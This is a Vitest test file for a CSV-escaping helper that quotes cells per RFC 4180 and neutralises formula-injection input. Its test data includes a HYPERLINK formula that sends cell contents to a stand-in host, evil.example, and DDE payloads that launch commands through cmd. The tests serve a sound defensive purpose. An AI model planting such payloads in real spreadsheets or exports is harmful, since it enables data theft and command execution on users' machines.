import { describe, expect, it } from 'vitest';
import { csvCell, csvRow, csvRows } from './csv-cell';

describe('csvCell', () => {
  it('quotes per RFC 4180 only what needs it, and writes nothing for null', () => {
    expect(csvCell('plain text')).toBe('plain text');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('cr\r')).toBe('"cr\r"');
    expect(csvCell(' padded ')).toBe('" padded "');
    expect(csvCell('')).toBe('');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
  });

  it.each([
    ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', `"'=HYPERLINK(""https://evil.example/?d=""&A1,""Click"")"`],
    ["=cmd|' /C calc'!A0", `'=cmd|' /C calc'!A0`],
    ['+SUM(1,2)', `"'+SUM(1,2)"`],
    ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
    ['-2+3+cmd|x', `'-2+3+cmd|x`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `"'\r=1+1"`],
    ['\u0000=1', `'\u0000=1`],
    ['  =1+1', `'  =1+1`],
    ['\uFF1D1+1', `'\uFF1D1+1`],
    ['\uFF0B1', `'\uFF0B1`],
    ['\uFF0D1+1', `'\uFF0D1+1`],
    ['\uFF20SUM(A1)', `'\uFF20SUM(A1)`],
  ])('neutralises text a spreadsheet would run as a formula: %j', (text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });

  it('leaves numbers as numbers: of type number, or text that is exactly a decimal number', () => {
    expect(csvCell(-12.5)).toBe('-12.5');
    expect(csvCell(-1e-7)).toBe('-1e-7');
    expect(csvCell(0)).toBe('0');
    expect(csvCell('-36.85')).toBe('-36.85');
    expect(csvCell('-7')).toBe('-7');
    // Text that only begins like a number is not one.
    expect(csvCell('-36.85+1')).toBe(`'-36.85+1`);
    expect(csvCell('-1,000')).toBe(`"'-1,000"`);
  });

  it('leaves signs that are not at the start alone', () => {
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell('kiri@example.nz')).toBe('kiri@example.nz');
    expect(csvCell('2026-03-01T10:00:00.000Z')).toBe('2026-03-01T10:00:00.000Z');
  });
});

describe('csvRow', () => {
  it('joins the cells with commas and ends the record with CRLF', () => {
    expect(csvRow(['a', 1, null, '=x', 'b,c'])).toBe(`a,1,,'=x,"b,c"\r\n`);
    expect(csvRow([])).toBe('\r\n');
    expect(csvRows([['a', 'b'], [1, -2]])).toBe('a,b\r\n1,-2\r\n');
  });
});
